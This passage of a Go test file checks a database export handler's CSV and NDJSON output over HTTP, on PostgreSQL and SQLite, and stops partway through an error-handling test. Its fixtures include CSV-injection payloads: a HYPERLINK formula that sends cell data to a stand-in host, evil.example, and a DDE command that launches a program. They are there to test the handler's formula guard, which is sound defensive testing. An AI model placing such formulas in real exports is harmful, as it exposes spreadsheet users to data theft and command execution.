package handlers_test

import (
	"bufio"
	"bytes"
	"context"
	"database/sql"
	"database/sql/driver"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"runtime"
	"runtime/debug"
	"runtime/metrics"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	_ "modernc.org/sqlite" // registers the "sqlite" database/sql driver

	"github.com/ginstream/ginstream/handlers"
	"github.com/ginstream/ginstream/internal/loopback"
	"github.com/ginstream/ginstream/internal/pgtest"
	"github.com/ginstream/ginstream/sink"
)

// The export tests run the same handler on a real PostgreSQL (see package
// pgtest; skipped where it is missing, except in CI) and on an embedded
// SQLite, through a real HTTP server.

// exportPatience bounds every request of these tests, so that a broken stream
// fails them instead of hanging. It is a deadlock guard, not a performance
// claim.
const exportPatience = time.Minute

// exportDB is a database the export tests run on.
type exportDB struct {
	db       *sql.DB
	postgres bool
}

// param returns the i'th (from 1) query placeholder of the database.
func (d exportDB) param(i int) string {
	if d.postgres {
		return "$" + strconv.Itoa(i)
	}
	return "?"
}

// exec runs statements, failing the test on the first error.
func (d exportDB) exec(t *testing.T, stmt string, args ...any) {
	t.Helper()
	if _, err := d.db.ExecContext(t.Context(), stmt, args...); err != nil {
		t.Fatalf("%s: %v", stmt, err)
	}
}

// exportDatabases are the databases every export test runs on.
var exportDatabases = []struct {
	name string
	open func(t *testing.T) exportDB
}{
	{"PostgreSQL", func(t *testing.T) exportDB { return exportDB{pgtest.DB(t), true} }},
	{"SQLite", func(t *testing.T) exportDB { return exportDB{exportSQLite(t), false} }},
}

// exportSQLite returns a new SQLite database in a file of its own, closed
// when t ends.
func exportSQLite(t *testing.T) *sql.DB {
	t.Helper()
	// Times are written in SQLite's own format, which keeps their offset.
	db, err := sql.Open("sqlite", "file:"+filepath.Join(t.TempDir(), "export.db")+"?_time_format=sqlite")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := db.Close(); err != nil {
			t.Errorf("close SQLite: %v", err)
		}
	})
	return db
}

// forEachDatabase runs test once per database, each with a new one.
func forEachDatabase(t *testing.T, test func(t *testing.T, d exportDB)) {
	t.Helper()
	for _, tt := range exportDatabases {
		t.Run(tt.name, func(t *testing.T) { test(t, tt.open(t)) })
	}
}

// overHTTP is an HTTP version the tests run over.
type overHTTP struct {
	name  string
	http2 bool
}

var httpVersions = []overHTTP{{"HTTP1.1", false}, {"HTTP2", true}}

// serveOver serves h over v until the test ends, and returns a client that
// speaks v and the server's base URL.
func serveOver(t *testing.T, v overHTTP, h http.Handler) (*http.Client, string) {
	t.Helper()
	return loopback.Serve(t, v.http2, h, 0)
}

// exportEngine returns a gin engine with Recovery (which must not turn a
// failed export into a clean end) serving the handlers at their paths.
func exportEngine(routes map[string]gin.HandlerFunc) *gin.Engine {
	engine := gin.New()
	engine.Use(gin.Recovery())
	for path, h := range routes {
		engine.GET(path, h)
	}
	return engine
}

// exportGet sends a GET request with the given headers (name, value, ...)
// and returns the response, whose body is closed when the test ends.
func exportGet(t *testing.T, client *http.Client, url string, header ...string) *http.Response {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), exportPatience)
	t.Cleanup(cancel)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

// exportBody sends a GET request and returns the response and its whole
// body, failing the test if the body does not arrive complete.
func exportBody(t *testing.T, client *http.Client, url string, header ...string) (*http.Response, []byte) {
	t.Helper()
	resp := exportGet(t, client, url, header...)
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s: reading the body: %v", url, err)
	}
	return resp, body
}

// quiet is a logger for streams that are meant to fail.
var quiet = slog.New(slog.DiscardHandler)

// exportReports collects the reports of a handler's streams.
type exportReports chan sink.Report

func newExportReports() exportReports { return make(exportReports, 16) }

func (r exportReports) hook(_ *gin.Context, rep sink.Report) { r <- rep }

// next returns the next report, failing the test if none comes.
func (r exportReports) next(t *testing.T) sink.Report {
	t.Helper()
	select {
	case rep := <-r:
		return rep
	case <-time.After(exportPatience):
		t.Fatal("no report")
		return sink.Report{}
	}
}

// exportUser is a row of the users table of TestExportMatchesTable, as
// database/sql reads it into typed values.
type exportUser struct {
	ID        int64
	Name      string
	Email     sql.NullString
	Avatar    []byte
	NoAvatar  bool // avatar IS NULL (SQLite's driver reads an empty blob as nil, too)
	CreatedAt sql.NullTime
	Balance   sql.NullString // NUMERIC in PostgreSQL, TEXT in SQLite
	Score     sql.NullFloat64
	Active    sql.NullBool
	Born      sql.NullTime
}

const exportUserColumns = "id, name, email, avatar, created_at, balance, score, active, born"

// exportUsersDDL creates the users table.
func exportUsersDDL(postgres bool) string {
	if postgres {
		return `CREATE TABLE users (id int PRIMARY KEY, name text NOT NULL, email text,
			avatar bytea, created_at timestamptz, balance numeric, score float8, active boolean, born date)`
	}
	// SQLite: TIMESTAMP and DATE columns read back as times, BOOLEAN holds
	// 0 and 1, and TEXT keeps decimals exact.
	return `CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT NOT NULL, email TEXT,
		avatar BLOB, created_at TIMESTAMP, balance TEXT, score REAL, active BOOLEAN, born DATE)`
}

// exportAwkwardUsers are rows with every value that a CSV or JSON writer can
// get wrong.
func exportAwkwardUsers() []exportUser {
	str := func(s string) sql.NullString { return sql.NullString{String: s, Valid: true} }
	at := func(s string) sql.NullTime {
		t, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			panic(err)
		}
		return sql.NullTime{Time: t, Valid: true}
	}
	day := func(s string) sql.NullTime {
		t, err := time.Parse(time.DateOnly, s)
		if err != nil {
			panic(err)
		}
		return sql.NullTime{Time: t, Valid: true}
	}
	num := func(f float64) sql.NullFloat64 { return sql.NullFloat64{Float64: f, Valid: true} }
	yes, no := sql.NullBool{Bool: true, Valid: true}, sql.NullBool{Valid: true}
	users := []exportUser{
		{Name: "Ann", Email: str("ann@example.com"), Avatar: []byte{0x89, 'P', 'N', 'G', 0, 0xff, 0xfe},
			CreatedAt: at("2024-01-02T03:04:05.123456Z"), Balance: str("1234.50"), Score: num(1.5), Active: yes, Born: day("1990-05-17")},
		{Name: "Smith, John", Email: str("john,smith@example.com"), Avatar: []byte("valid UTF-8 is still binary"),
			CreatedAt: at("2024-06-30T23:59:59+05:30"), Balance: str("-0.01"), Score: num(-2.25), Active: no, Born: day("2000-02-29")},
		{Name: `Jane "JJ" Doe`, Email: str(`"quoted"@example.com`), Avatar: []byte{},
			Balance: str("12345678901234567890.123456789"), Score: num(0.1)},
		{Name: "line 1\nline 2\n", Score: num(1e21), Active: yes},
		{Name: "carriage\rreturn", Email: str("crlf\r\ninside"), Score: num(1e-7), Born: day("1970-01-01")},
		{Name: "Zoë Ünïcødé 世界 🚀 \u00a0\u2028", Email: str("zoë@exämple.com"), CreatedAt: at("1999-12-31T23:59:59.999999Z"), Score: num(100)},
		{Name: `=HYPERLINK("http://evil.example/?"&A1)`, Email: str("@SUM(A1:A9)"), Balance: str("0"), Score: num(math.Inf(1))},
		{Name: "+cmd|' /C calc'!A0", Email: str("-2+3"), Score: num(math.Inf(-1))},
		{Name: "\tstarts with a tab", Email: str("\rstarts with CR"), Score: num(123456789.125)},
		{Name: "-42", Email: str("+1.5"), Balance: str("-42")}, // plain numbers are not formulas
		{Name: "", Email: str("")},         // empty, not NULL
		{Name: "NULL", Email: str("NULL")}, // the word, not the value
		{Name: "  padded, with spaces  ", Email: str(" ")},
		{Name: `back\slash and 'single' quotes`, Email: str(`\N`)},
		{Name: strings.Repeat(`long,"value"`+"\n", 500), Email: str("end")},
	}
	for i := range users {
		users[i].ID = int64(i + 1)
	}
	return users
}

// insertUsers creates and fills the users table, in reverse, so that the
// export's order must come from its ORDER BY.
func insertUsers(t *testing.T, d exportDB, users []exportUser, nan bool) {
	t.Helper()
	d.exec(t, exportUsersDDL(d.postgres))
	var ps []string
	for i := range 9 {
		ps = append(ps, d.param(i+1))
	}
	insert := "INSERT INTO users (" + exportUserColumns + ") VALUES (" + strings.Join(ps, ", ") + ")"
	for i := len(users) - 1; i >= 0; i-- {
		u := users[i]
		var avatar any
		if u.Avatar != nil {
			avatar = u.Avatar
		}
		d.exec(t, insert, u.ID, u.Name, u.Email, avatar, u.CreatedAt, u.Balance, u.Score, u.Active, u.Born)
	}
	if nan {
		// NaN has no place in SQLite, which stores it as NULL.
		d.exec(t, "INSERT INTO users (id, name, score) VALUES (100, 'not a number', 'NaN')")
	}
}

// readUsers reads the users table directly, into typed values.
func readUsers(t *testing.T, d exportDB) []exportUser {
	t.Helper()
	rows, err := d.db.QueryContext(t.Context(), "SELECT "+exportUserColumns+", avatar IS NULL FROM users ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var users []exportUser
	for rows.Next() {
		var u exportUser
		if err := rows.Scan(&u.ID, &u.Name, &u.Email, &u.Avatar, &u.CreatedAt, &u.Balance, &u.Score, &u.Active, &u.Born, &u.NoAvatar); err != nil {
			t.Fatal(err)
		}
		users = append(users, u)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return users
}

// plainNumber matches what sink.CSV's formula guard leaves alone although
// it starts with '+' or '-'.
var plainNumber = regexp.MustCompile(`^[+-][0-9]+(\.[0-9]+)?$`)

// guarded is the CSV cell that the formula guard makes of s: a cell that
// starts with '=', '+', '-', '@', tab or carriage return gets a leading
// single quote, unless it is a plain number.
func guarded(s string) string {
	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 && !plainNumber.MatchString(s) {
		return "'" + s
	}
	return s
}

// csvRead is what encoding/csv's Reader returns for a cell written as s:
// it reads a "\r\n" inside a quoted cell as "\n".
func csvRead(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

// TestExportMatchesTable: the CSV and NDJSON exports of a table with
// awkward values, parsed back, give row for row and column for column the
// values database/sql reads from the table directly — on PostgreSQL and on
// SQLite, with the documented forms of NULL, binary, times, numbers and
// booleans, and the formula guard.
func TestExportMatchesTable(t *testing.T) {
	forEachDatabase(t, func(t *testing.T, d exportDB) {
		insertUsers(t, d, exportAwkwardUsers(), d.postgres)
		want := readUsers(t, d)
		if len(want) < len(exportAwkwardUsers()) {
			t.Fatalf("read %d users back, inserted %d", len(want), len(exportAwkwardUsers()))
		}
		export := handlers.Export{
			DB:       d.db,
			Query:    "SELECT " + exportUserColumns + " FROM users ORDER BY id",
			Filename: "users.csv",
		}
		client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{"/users": export.Handler()}))
		columns := strings.Split(exportUserColumns, ", ")

		t.Run("CSV", func(t *testing.T) {
			resp, body := exportBody(t, client, base+"/users")
			checkExportResponse(t, resp, "text/csv; charset=utf-8", `attachment; filename="users.csv"`)
			records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("the export is not valid CSV: %v", err)
			}
			if len(records) == 0 || !slices.Equal(records[0], columns) {
				t.Fatalf("header %q, want %q", records[:min(1, len(records))], columns)
			}
			records = records[1:]
			if len(records) != len(want) {
				t.Errorf("%d records, want %d (the table's rows)", len(records), len(want))
			}
			for i := range min(len(records), len(want)) {
				checkCSVUser(t, records[i], want[i])
			}
		})

		t.Run("NDJSON", func(t *testing.T) {
			resp, body := exportBody(t, client, base+"/users?format=ndjson")
			checkExportResponse(t, resp, "application/x-ndjson", `attachment; filename="users.ndjson"`)
			lines := strings.Split(strings.TrimSuffix(string(body), "\n"), "\n")
			if len(lines) != len(want) {
				t.Errorf("%d lines, want %d (the table's rows)", len(lines), len(want))
			}
			for i := range min(len(lines), len(want)) {
				checkJSONUser(t, lines[i], columns, want[i], d.postgres)
			}
		})
	})
}

// checkExportResponse checks the status and headers of a successful export.
func checkExportResponse(t *testing.T, resp *http.Response, contentType, disposition string) {
	t.Helper()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d, want 200", resp.StatusCode)
	}
	if got := resp.Header.Get("Content-Type"); got != contentType {
		t.Errorf("Content-Type %q, want %q", got, contentType)
	}
	if got := resp.Header.Get("Content-Disposition"); got != disposition {
		t.Errorf("Content-Disposition %q, want %q", got, disposition)
	}
}

// checkCSVUser compares a CSV record, parsed back, with a row read directly.
func checkCSVUser(t *testing.T, rec []string, u exportUser) {
	t.Helper()
	if len(rec) != 9 {
		t.Errorf("user %d: %d cells, want 9: %q", u.ID, len(rec), rec)
		return
	}
	errorf := func(col, format string, args ...any) {
		t.Helper()
		t.Errorf("user %d, %s: %s", u.ID, col, fmt.Sprintf(format, args...))
	}
	nullable := func(col, cell string, valid bool, check func()) {
		t.Helper()
		switch {
		case !valid && cell != "":
			errorf(col, "%q for NULL, want an empty cell", cell)
		case valid:
			check()
		}
	}
	if id, err := strconv.ParseInt(rec[0], 10, 64); err != nil || id != u.ID {
		errorf("id", "%q, want %d", rec[0], u.ID)
	}
	if want := csvRead(guarded(u.Name)); rec[1] != want {
		errorf("name", "%q, want %q", rec[1], want)
	}
	nullable("email", rec[2], u.Email.Valid, func() {
		if want := csvRead(guarded(u.Email.String)); rec[2] != want {
			errorf("email", "%q, want %q", rec[2], want)
		}
	})
	nullable("avatar", rec[3], !u.NoAvatar, func() {
		if b, err := base64.StdEncoding.DecodeString(rec[3]); err != nil || !bytes.Equal(b, u.Avatar) {
			errorf("avatar", "%q decodes to %q, %v; want base64 of %q", rec[3], b, err, u.Avatar)
		}
	})
	nullable("created_at", rec[4], u.CreatedAt.Valid, func() {
		tm, err := time.Parse(time.RFC3339Nano, rec[4])
		if err != nil || !tm.Equal(u.CreatedAt.Time) || !strings.HasSuffix(rec[4], "Z") {
			errorf("created_at", "%q, want %v in RFC 3339, UTC", rec[4], u.CreatedAt.Time)
		}
	})
	nullable("balance", rec[5], u.Balance.Valid, func() {
		if want := guarded(u.Balance.String); rec[5] != want {
			errorf("balance", "%q, want %q", rec[5], want)
		}
	})
	nullable("score", rec[6], u.Score.Valid, func() {
		text := strings.TrimPrefix(rec[6], "'")
		f, err := strconv.ParseFloat(text, 64)
		if err != nil || !(f == u.Score.Float64 || math.IsNaN(f) && math.IsNaN(u.Score.Float64)) || guarded(text) != rec[6] {
			errorf("score", "%q, want %v", rec[6], u.Score.Float64)
		}
	})
	nullable("active", rec[7], u.Active.Valid, func() {
		if want := strconv.FormatBool(u.Active.Bool); rec[7] != want {
			errorf("active", "%q, want %q", rec[7], want)
		}
	})
	nullable("born", rec[8], u.Born.Valid, func() {
		if want := u.Born.Time.Format(time.DateOnly); rec[8] != want {
			errorf("born", "%q, want %q", rec[8], want)
		}
	})
}

// checkJSONUser compares an NDJSON line, parsed back, with a row read
// directly. NUMERIC values are JSON numbers; SQLite's TEXT balance is a
// string.
func checkJSONUser(t *testing.T, line string, columns []string, u exportUser, numericIsNumber bool) {
	t.Helper()
	errorf := func(col, format string, args ...any) {
		t.Helper()
		t.Errorf("user %d, %s: %s", u.ID, col, fmt.Sprintf(format, args...))
	}
	if keys := jsonKeys(t, line); !slices.Equal(keys, columns) {
		t.Errorf("user %d: keys %q, want the columns in order %q", u.ID, keys, columns)
	}
	dec := json.NewDecoder(strings.NewReader(line))
	dec.UseNumber()
	var obj map[string]any
	if err := dec.Decode(&obj); err != nil {
		t.Fatalf("user %d: %v in %q", u.ID, err, line)
	}
	nullable := func(col string, valid bool, want any) {
		t.Helper()
		got, ok := obj[col]
		switch {
		case !ok:
			errorf(col, "missing")
		case !valid && got != nil:
			errorf(col, "%#v for NULL, want null", got)
		case valid && got != want:
			errorf(col, "%#v, want %#v", got, want)
		}
	}
	nullable("id", true, json.Number(strconv.FormatInt(u.ID, 10)))
	nullable("name", true, u.Name)
	nullable("email", u.Email.Valid, u.Email.String)
	nullable("avatar", !u.NoAvatar, base64.StdEncoding.EncodeToString(u.Avatar))
	if s, ok := obj["created_at"].(string); u.CreatedAt.Valid {
		tm, err := time.Parse(time.RFC3339Nano, s)
		if !ok || err != nil || !tm.Equal(u.CreatedAt.Time) {
			errorf("created_at", "%#v, want %v in RFC 3339", obj["created_at"], u.CreatedAt.Time)
		}
	} else {
		nullable("created_at", false, nil)
	}
	if numericIsNumber {
		nullable("balance", u.Balance.Valid, json.Number(u.Balance.String))
	} else {
		nullable("balance", u.Balance.Valid, u.Balance.String)
	}
	switch f := u.Score.Float64; {
	case !u.Score.Valid:
		nullable("score", false, nil)
	case math.IsNaN(f):
		nullable("score", true, "NaN")
	case math.IsInf(f, 1):
		nullable("score", true, "Infinity")
	case math.IsInf(f, -1):
		nullable("score", true, "-Infinity")
	default:
		n, ok := obj["score"].(json.Number)
		if got, err := strconv.ParseFloat(string(n), 64); !ok || err != nil || got != f {
			errorf("score", "%#v, want the number %v", obj["score"], f)
		}
	}
	nullable("active", u.Active.Valid, u.Active.Bool)
	nullable("born", u.Born.Valid, u.Born.Time.Format(time.DateOnly))
}

// jsonKeys returns the keys of a JSON object in the order they appear.
func jsonKeys(t *testing.T, object string) []string {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(object))
	if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
		t.Fatalf("%q is not an object: %v %v", object, tok, err)
	}
	var keys []string
	for dec.More() {
		key, err := dec.Token()
		if err != nil {
			t.Fatalf("%v in %q", err, object)
		}
		keys = append(keys, key.(string))
		var value json.RawMessage
		if err := dec.Decode(&value); err != nil {
			t.Fatalf("%v in %q", err, object)
		}
	}
	return keys
}

// TestExportValueFormats pins down the text of each kind of value, in CSV
// and in NDJSON, on PostgreSQL.
func TestExportValueFormats(t *testing.T) {
	d := exportDB{pgtest.DB(t), true}
	client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{
		"/value": func(c *gin.Context) {
			e := handlers.Export{DB: d.db, Query: "SELECT " + c.Query("expr") + " AS v"}
			e.Handler()(c)
		},
	}))
	tests := []struct {
		name, expr string
		csv        string // the cell
		json       string // the member's value
	}{
		{"NULL", "NULL::text", `""`, "null"}, // a record of one empty cell is written `""`
		{"empty text", "''::text", `""`, `""`},
		{"integer", "42", "42", "42"},
		{"bigint", "(-9223372036854775808)::int8", "-9223372036854775808", "-9223372036854775808"},
		{"double, shortest form", "0.1::float8", "0.1", "0.1"},
		{"double, no exponent below 1e21", "1e20::float8", "100000000000000000000", "100000000000000000000"},
		{"double, exponent from 1e21", "1e21::float8", "1e+21", "1e+21"},
		{"double, small", "0.000000123::float8", "1.23e-7", "1.23e-7"},
		{"double, integral", "3::float8", "3", "3"},
		{"real in single precision", "1.1::real", "1.1", "1.1"},
		{"NaN", "'NaN'::float8", "NaN", `"NaN"`},
		{"infinity", "'Infinity'::float8", "Infinity", `"Infinity"`},
		{"negative infinity, guarded in CSV", "'-Infinity'::float8", "'-Infinity", `"-Infinity"`},
		{"numeric keeps its digits", "123456789012345678901234567890.000100::numeric", "123456789012345678901234567890.000100", "123456789012345678901234567890.000100"},
		{"negative numeric is a plain number", "-1.50::numeric", "-1.50", "-1.50"},
		{"numeric NaN", "'NaN'::numeric", "NaN", `"NaN"`},
		{"true", "true", "true", "true"},
		{"false", "false", "false", "false"},
		{"timestamptz in UTC with microseconds", "'2024-01-02 03:04:05.123456+02'::timestamptz", "2024-01-02T01:04:05.123456Z", `"2024-01-02T01:04:05.123456Z"`},
		{"timestamptz without fraction", "'2024-01-02 03:04:05+00'::timestamptz", "2024-01-02T03:04:05Z", `"2024-01-02T03:04:05Z"`},
		{"timestamp", "'2024-01-02 03:04:05.5'::timestamp", "2024-01-02T03:04:05.5Z", `"2024-01-02T03:04:05.5Z"`},
		{"date", "'2024-02-29'::date", "2024-02-29", `"2024-02-29"`},
		{"bytea in base64", `'\x00ff10'::bytea`, "AP8Q", `"AP8Q"`},
		{"UTF-8 bytea is still base64", `'hi'::bytea`, "aGk=", `"aGk="`},
		{"empty bytea", `''::bytea`, `""`, `""`},
		{"jsonb: text in CSV, JSON in NDJSON", `'{"a": [1, "x"]}'::jsonb`, `"{""a"": [1, ""x""]}"`, `{"a":[1,"x"]}`},
		{"json", `'[true, null]'::json`, `"[true, null]"`, `[true,null]`},
		{"uuid", "'6ba7b810-9dad-11d1-80b4-00c04fd430c8'::uuid", "6ba7b810-9dad-11d1-80b4-00c04fd430c8", `"6ba7b810-9dad-11d1-80b4-00c04fd430c8"`},
		{"HTML is not escaped", "'<b>&</b>'::text", "<b>&</b>", `"<b>&</b>"`},
		{"formula guarded in CSV only", "'=1+2'::text", "'=1+2", `"=1+2"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, body := exportBody(t, client, base+"/value?expr="+url.QueryEscape(tt.expr))
			if want := "v\n" + tt.csv + "\n"; string(body) != want {
				t.Errorf("CSV %q, want %q", body, want)
			}
			_, body = exportBody(t, client, base+"/value?format=ndjson&expr="+url.QueryEscape(tt.expr))
			if want := `{"v":` + tt.json + "}\n"; string(body) != want {
				t.Errorf("NDJSON %q, want %q", body, want)
			}
		})
	}
}

// TestExportSameBytesOnBothDatabases: the same handler gives the same bytes
// for the same users on PostgreSQL and on SQLite (the demo's
// "same handlers, same bytes out"), and those bytes are exactly the
// expected CSV.
func TestExportSameBytesOnBothDatabases(t *testing.T) {
	users := [][]any{
		{1, "Smith, John", "john@example.com"},
		{2, `Jane "JJ" Doe`, "jane@example.com"},
		{3, "line 1\nline 2", nil},
		{4, "Zoë 世界 🚀", "zoë@exämple.com"},
		{5, `=HYPERLINK("x")`, "@evil"},
		{6, "", "empty@example.com"},
		{7, " padded ", "-42"},
	}
	const wantCSV = "id,name,email\n" +
		"1,\"Smith, John\",john@example.com\n" +
		"2,\"Jane \"\"JJ\"\" Doe\",jane@example.com\n" +
		"3,\"line 1\nline 2\",\n" +
		"4,Zoë 世界 🚀,zoë@exämple.com\n" +
		"5,\"'=HYPERLINK(\"\"x\"\")\",'@evil\n" +
		"6,,empty@example.com\n" +
		"7,\" padded \",-42\n"
	const wantNDJSON = `{"id":1,"name":"Smith, John","email":"john@example.com"}` + "\n" +
		`{"id":2,"name":"Jane \"JJ\" Doe","email":"jane@example.com"}` + "\n" +
		`{"id":3,"name":"line 1\nline 2","email":null}` + "\n" +
		`{"id":4,"name":"Zoë 世界 🚀","email":"zoë@exämple.com"}` + "\n" +
		`{"id":5,"name":"=HYPERLINK(\"x\")","email":"@evil"}` + "\n" +
		`{"id":6,"name":"","email":"empty@example.com"}` + "\n" +
		`{"id":7,"name":" padded ","email":"-42"}` + "\n"
	forEachDatabase(t, func(t *testing.T, d exportDB) {
		d.exec(t, "CREATE TABLE users (id integer PRIMARY KEY, name text NOT NULL, email text)")
		for _, u := range slices.Backward(users) {
			d.exec(t, "INSERT INTO users VALUES ("+d.param(1)+", "+d.param(2)+", "+d.param(3)+")", u...)
		}
		export := handlers.Export{DB: d.db, Query: "SELECT id, name, email FROM users ORDER BY id", Filename: "users.csv"}
		client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{"/export/users.csv": export.Handler()}))
		for _, f := range []struct{ query, want string }{{"", wantCSV}, {"?format=ndjson", wantNDJSON}} {
			if _, body := exportBody(t, client, base+"/export/users.csv"+f.query); string(body) != f.want {
				t.Errorf("GET /export/users.csv%s:\n got %q\nwant %q", f.query, body, f.want)
			}
		}
	})
}

// TestExportEmptyResult: a query without rows gives a CSV file with just
// the header, and an empty NDJSON file.
func TestExportEmptyResult(t *testing.T) {
	forEachDatabase(t, func(t *testing.T, d exportDB) {
		d.exec(t, "CREATE TABLE users (id integer PRIMARY KEY, name text)")
		export := handlers.Export{DB: d.db, Query: "SELECT id, name FROM users"}
		client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{"/": export.Handler()}))
		resp, body := exportBody(t, client, base+"/")
		checkExportResponse(t, resp, "text/csv; charset=utf-8", `attachment; filename="export.csv"`)
		if string(body) != "id,name\n" {
			t.Errorf("CSV %q, want the header alone", body)
		}
		resp, body = exportBody(t, client, base+"/?format=ndjson")
		checkExportResponse(t, resp, "application/x-ndjson", `attachment; filename="export.ndjson"`)
		if len(body) != 0 {
			t.Errorf("NDJSON %q, want nothing", body)
		}
	})
}

// TestExportFormat: the format parameter, or else the Accept header,
// chooses CSV or NDJSON; a format parameter naming neither is answered with
// 400 and a JSON error, as is a query string that cannot be parsed.
func TestExportFormat(t *testing.T) {
	db := exportSQLite(t)
	if _, err := db.ExecContext(t.Context(), "CREATE TABLE t (n INTEGER); INSERT INTO t VALUES (1)"); err != nil {
		t.Fatal(err)
	}
	const (
		csvType    = "text/csv; charset=utf-8"
		ndjsonType = "application/x-ndjson"
		browser    = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
	)
	tests := []struct {
		name, query, accept string
		want                string // Content-Type, or "" for a 400
	}{
		{"no preference: CSV", "", "", csvType},
		{"format=csv", "format=csv", "", csvType},
		{"format=ndjson", "format=ndjson", "", ndjsonType},
		{"format is case-insensitive", "format=NDJSON", "", ndjsonType},
		{"the parameter wins over Accept", "format=csv", "application/x-ndjson", csvType},
		{"Accept: application/x-ndjson", "", "application/x-ndjson", ndjsonType},
		{"Accept: application/json", "", "application/json", ndjsonType},
		{"Accept: text/csv", "", "text/csv", csvType},
		{"CSV ranked first", "", "text/csv, application/json;q=0.5", csvType},
		{"NDJSON ranked first", "", "application/json;q=0.9, text/csv;q=0.1", ndjsonType},
		{"a tie is CSV", "", "application/json, text/csv", csvType},
		{"Accept: */*", "", "*/*", csvType},
		{"a browser's Accept", "", browser, csvType},
		{"Accept: application/*", "", "application/*", ndjsonType},
		{"Accept: text/*", "", "text/*", csvType},
		{"q=0 refuses", "", "application/json;q=0", csvType},
		{"the most specific range counts", "", "application/json;q=0.1, */*", csvType},
		{"a malformed q is ignored", "", "application/json;q=high", csvType},
		{"parameters other than q", "", "application/json; charset=utf-8", ndjsonType},
		{"unknown format", "format=xml", "", ""},
		{"empty format", "format=", "", ""},
		{"json is not a format name", "format=json", "", ""},
		{"a malformed query string", "format=ndjson;x", "", ""},
		{"a bad escape", "format=%zz", "", ""},
		{"more than 10,000 parameters", "format=ndjson" + strings.Repeat("&x=1", 10_000), "", ""},
	}
	export := handlers.Export{DB: db, Query: "SELECT n FROM t", Filename: "t.csv"}
	client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{"/t": export.Handler()}))
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			header := []string{}
			if tt.accept != "" {
				header = []string{"Accept", tt.accept}
			}
			resp, body := exportBody(t, client, base+"/t?"+tt.query, header...)
			if tt.want != "" {
				if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != tt.want {
					t.Errorf("%d %s, want 200 %s", resp.StatusCode, resp.Header.Get("Content-Type"), tt.want)
				}
				return
			}
			checkFormatError(t, resp, body)
		})
	}
}

// checkFormatError checks a 400 answer to a bad format parameter.
func checkFormatError(t *testing.T, resp *http.Response, body []byte) {
	t.Helper()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("status %d, want 400", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type %q, want JSON", ct)
	}
	if cd := resp.Header.Get("Content-Disposition"); cd != "" {
		t.Errorf("Content-Disposition %q on an error", cd)
	}
	var e struct {
		Param   string   `json:"parameter"`
		Allowed []string `json:"allowed"`
		Msg     string   `json:"error"`
	}
	if err := json.Unmarshal(body, &e); err != nil {
		t.Fatalf("body %q: %v", body, err)
	}
	if e.Param != "format" || !slices.Equal(e.Allowed, []string{"csv", "ndjson"}) || !strings.Contains(e.Msg, `"format"`) {
		t.Errorf("body %s does not name the parameter format and its values csv and ndjson", body)
	}
}

// TestExportQueryError: a query that fails before its first row — at
// once, or computing the first row — is answered with 500 and nothing but
// the status, without the attachment header; the database's message, which
// may show the query, is logged instead. One that fails after rows were
// sent ends in a failed transfer, never a clean end.
func TestExportQueryError(t *testing.T) {
	forEachDatabase(t, func(t *testing.T, d exportDB) {
		// A query failing at row n: division by zero in PostgreSQL, an
		// integer overflow in SQLite, computed row by row.
		failingAt := func(n int) string {
			if d.postgres {
				return fmt.Sprintf("SELECT g AS n, 1/(g-%d) AS x FROM generate_series(1, 10000) g", n)
			}
			return fmt.Sprintf(`WITH RECURSIVE s(g) AS (SELECT 1 UNION ALL SELECT g+1 FROM s WHERE g < 10000)
				SELECT g AS n, CASE WHEN g = %d THEN abs(g - g - 9223372036854775807 - 1) ELSE g END AS x FROM s`, n)
		}
		wantMsg := map[bool][]string{
			true:  {`relation "missing" does not exist`, "division by zero"},
			false: {"no such table: missing", "integer overflow"},
		}[d.postgres]
		rep := newExportReports()
		// Written before each stream is reported, so read after the
		// report without a race: the requests are sequential.
		var log bytes.Buffer
		logger := slog.New(slog.NewTextHandler(&log, nil))
		route := func(query string) gin.HandlerFunc {
			e := handlers.Export{DB: d.db, Query: query, Filename: "x.csv", Config: sink.Config{OnReport: rep.hook, Logger: logger}}
			return e.Handler()
		}
		client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{
			"/missing":   route("SELECT * FROM missing"),
			"/first":     route(failingAt(1)),
			"/later":     route(failingAt(5000)),
			"/nocolumns": route("SELECT"),
		}))
		cases := []struct{ name, path, msg string }{
			{"a missing table", "/missing", wantMsg[0]},
